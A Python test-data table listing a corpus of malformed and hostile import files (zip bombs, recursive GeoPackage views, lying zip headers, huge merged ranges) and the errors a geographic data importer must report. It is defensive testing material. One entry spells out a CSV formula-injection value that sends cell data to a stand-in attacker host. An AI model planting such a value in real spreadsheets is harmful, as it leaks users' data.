"""What every file of the import corpus (tests/data/corpus, made by make_corpus.py) must produce.

One table, read by the tests (tests/geo/imports/test_bad_files.py) and by the script that
writes the attack table of docs/security.md (docs/make_security.py). A case is a file and
what it must give: ``unreadable`` (refused before validation: exit 2, one line), ``error``
(a row fault: exit 1, the report names file, row and column) or ``warning`` (read; the
hostile part neutralised and reported). Every case leaves the store byte for byte as it was.

Big files (200,000 rows, 1,000,000 columns) are made on demand: ``GENERATED``.
"""
from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.data.make_corpus import many_columns, many_rows

CORPUS = Path(__file__).resolve().parent / "corpus"


@dataclass(frozen=True)
class Case:
    """One corpus file and what it must produce."""

    file: str  # under tests/data/corpus/, e.g. "bad/empty.csv"
    what: str  # the fault or attack, one line (the security table)
    kind: str  # unreadable | error | warning
    code: str  # the unreadable.<code> or the issue code that must be reported
    row: int = 0  # the row the issue is on (0 = the whole file)
    options: tuple[str, ...] = ()  # command-line options
    env: tuple[tuple[str, str], ...] = ()  # settings for this case (QY_IMPORT_MAX_ROWS ...)
    words: tuple[str, ...] = ()  # words the message must contain (both languages)
    attack: bool = False  # from the hardening audit: listed in docs/security.md

    @property
    def path(self) -> Path:
        return CORPUS / self.file

    @property
    def name(self) -> str:
        return Path(self.file).name


def _u(file: str, code: str, *words: str, what: str, options: tuple[str, ...] = (),
       env: tuple[tuple[str, str], ...] = (), attack: bool = False) -> Case:
    return Case(f"bad/{file}", what, "unreadable", code, options=options, env=env, words=words, attack=attack)


def _e(file: str, code: str, row: int, what: str, attack: bool = False) -> Case:
    return Case(f"bad/{file}", what, "error", code, row, attack=attack)


def _w(file: str, code: str, row: int, what: str) -> Case:
    return Case(f"hostile/{file}", what, "warning", code, row, attack=True)


UNREADABLE: tuple[Case, ...] = (
    _u("empty.csv", "empty", "0 字节", "0 bytes", what="a 0-byte file"),
    _u("really_csv.xlsx", "not_spreadsheet", "改了扩展名的 CSV", "CSV renamed", what="a CSV renamed to .xlsx"),
    _u("legacy.xls", "xls_legacy", ".xls", "password", what="an old .xls / encrypted workbook"),
    _u("bad_encoding.csv", "encoding", "编码无法识别", "GBK/GB18030", what="text in no known encoding"),
    _u("gbk.csv", "encoding_override", "第 1 行", "utf-8", options=("--encoding", "utf-8"),
       what="a GBK file read as UTF-8"),
    _u("no_header.csv", "no_header", "找不到表头", "no header row", what="no header row"),
    _u("header_only.csv", "no_rows", "没有数据行", "no data rows", what="a header and no rows"),
    _u("report.docx", "format", ".docx", ".xlsx", what="a Word document"),
    _u("broken.geojson", "gis_unreadable", "无法作为地理数据读取", "cannot be read as geographic data",
       what="a truncated GeoJSON"),
    _u("corrupt.zip", "corrupt_zip", "已损坏", "damaged", what="a damaged zip"),
    _u("no_shp.zip", "zip_no_shp", "没有 .shp", "说明.txt", what="a zip without a shapefile"),
    _u("missing_dbf.zip", "shp_part_missing", "xq.dbf", "lacks", what="a shapefile without its .dbf"),
    _u("bomb.zip", "zip_ratio", "压缩炸弹", "zip bomb", what="a zip bomb (12 MB of zeros in 12 KB)", attack=True),
    _u("sheet.xlsx", "unknown_sheet", "不存在", "小区", options=("--sheet", "不存在"), what="a sheet that does not exist"),
    _u("layers.gpkg", "unknown_layer", "compounds", "xiaoqu", options=("--layer", "compounds"),
       what="a layer that does not exist"),
    # the hardening audit
    _u("recursive_view.gpkg", "gpkg_view", "SQL 视图", "SQL views", attack=True,
       what="98 KB GeoPackage whose layer is a recursive SQL view (ran forever at 100 % CPU)"),
    _u("view.gpkg", "gpkg_view", "compounds", "views", attack=True, what="a GeoPackage layer that is an SQL view"),
    _u("trigger.gpkg", "gpkg_trigger", "spy", "triggers", attack=True, what="a GeoPackage with a custom SQL trigger"),
    _u("dimension_million.xlsx", "too_many_rows", "1,048,576", "20,000", attack=True,
       what="an XLSX whose <dimension> claims 1,048,576 rows"),
    _u("lying_crc.zip", "corrupt_zip", "已损坏", "damaged", attack=True,
       what="a zip whose central directory lies (wrong CRC-32; was a BadZipFile traceback)"),
    _u("lying_offset.zip", "corrupt_zip", "已损坏", "damaged", attack=True,
       what="a zip whose central directory lies (wrong header offset; was a BadZipFile traceback)"),
    _u("lying_crc.xlsx", "corrupt_zip", "已损坏", "damaged", attack=True,
       what="an XLSX whose central directory lies (wrong CRC-32)"),
    _u("cr_only.csv", "too_many_rows", "60", "50", env=(("QY_IMPORT_MAX_ROWS", "50"),), attack=True,
       what="CR-only line endings (Excel for Mac) past the row limit (was counted as 1 line)"),
    _u("many_columns.csv", "too_many_columns", "1,000", "200", attack=True, what="a CSV of 1,000 columns"),
    _u("huge_cell.csv", "csv_malformed", "第 3 行", "line 3", attack=True,
       what="one cell of 140,000 characters (was a csv.Error traceback)"),
)

ROW_FAULTS: tuple[Case, ...] = (
    _e("name_missing.csv", "name_missing", 3, "a row without a name"),
    _e("location_missing.csv", "location_missing", 3, "a row without a location"),
    _e("coord_text.csv", "coord_bad", 3, "a coordinate written as text"),
    _e("swapped.csv", "coord_swapped", 3, "longitude and latitude swapped"),
    _e("outside.csv", "outside_district", 3, "a point outside the district"),
    _e("projected.csv", "coord_projected", 3, "metres where degrees belong"),
    _e("mixed_crs.csv", "coord_projected", 4, "one row in metres, the others in degrees"),
    _e("unknown_subdistrict.csv", "unknown_subdistrict", 3, "a subdistrict of another district"),
    _e("unknown_area.csv", "unknown_area", 3, "an unknown renovation area"),
    _e("unknown_status.csv", "unknown_status", 3, "an unknown status"),
    _e("unknown_batch.csv", "unknown_batch", 3, "an unknown batch"),
    _e("bool_bad.csv", "bool_bad", 3, "yes/no written as 也许"),
    _e("year_bad.csv", "year_bad", 3, "built in 1066"),
    _e("negative.csv", "number_negative", 3, "negative households"),
    _e("absurd_buildings.csv", "number_absurd", 3, "500 buildings"),
    _e("per_building.csv", "per_building_absurd", 3, "2,000 households per building"),
    _e("text_in_number.csv", "number_bad", 3, "text in a number column"),
    _e("date_text.csv", "date_bad", 3, "a date written as 明年春天"),
    _e("finish_before_start.csv", "finish_before_start", 3, "finish before start"),
    _e("duplicate_id.csv", "duplicate_id", 4, "one compound ID twice"),
    _e("formula.xlsx", "formula", 3, "a formula without a saved value"),
    _e("template_untouched.xlsx", "template_example", 2, "the import template as downloaded (its example row)"),
    _e("attributes_only.gpkg", "column_missing", 0, "a GeoPackage layer of attributes only (was an AttributeError "
                                                   "traceback)", attack=True),
    _e("merged_million.xlsx", "unknown_subdistrict", 2, "5 KB XLSX, one merged range over 1,000,000 cells "
                                                        "(took 27 s and 800 MB)", attack=True),
    _e("merged_sheet.xlsx", "column_missing", 0, "one merged range over the whole sheet (grew until killed)",
       attack=True),
)

HOSTILE: tuple[Case, ...] = (
    _w("formula_names.csv", "formula_text", 2, 'a name =HYPERLINK("http://attacker/?"&A1,"点击") (and +, @)'),
    _w("control_chars.csv", "text_cleaned", 2, "a bell and an escape sequence in a name (broke every XLSX export)"),
    _w("bidi.csv", "text_cleaned", 3, "a name with U+202E RIGHT-TO-LEFT OVERRIDE"),
    _w("markdown_header.csv", "unknown_column", 0, "a column header that is Markdown (a link and an image)"),
)

CASES: tuple[Case, ...] = (*UNREADABLE, *ROW_FAULTS, *HOSTILE)


@dataclass(frozen=True)
class Generated:
    """A big file made in a temporary folder, and what it must produce (an unreadable file)."""

    name: str
    what: str
    make: Callable[[Path], Path]
    code: str
    words: tuple[str, ...] = field(default_factory=tuple)


GENERATED: tuple[Generated, ...] = (
    Generated("rows_200000.csv", "200,000 rows (LF line endings)", lambda p: many_rows(p, 200_000),
              "too_many_rows_stopped", ("20,000",)),
    Generated("rows_200000_cr.csv", "200,000 rows with CR-only line endings (was committed past the 20,000 limit)",
              lambda p: many_rows(p, 200_000, "\r"), "too_many_rows_stopped", ("20,000",)),
    Generated("columns_1000000.csv", "1,000,000 columns (drew 8,911 select boxes in 155 s)",
              lambda p: many_columns(p, 1_000_000), "too_many_columns", ("1,000,000", "200")),
)
